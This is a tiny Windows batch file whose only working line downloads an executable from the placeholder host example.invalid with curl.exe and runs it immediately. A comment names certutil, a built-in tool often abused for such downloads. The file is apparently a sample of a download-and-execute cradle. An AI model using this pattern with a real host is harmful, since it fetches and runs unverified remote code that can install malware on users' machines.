@echo off
rem certutil
curl.exe -o x.exe https://example.invalid/x.exe && call .\x.exe
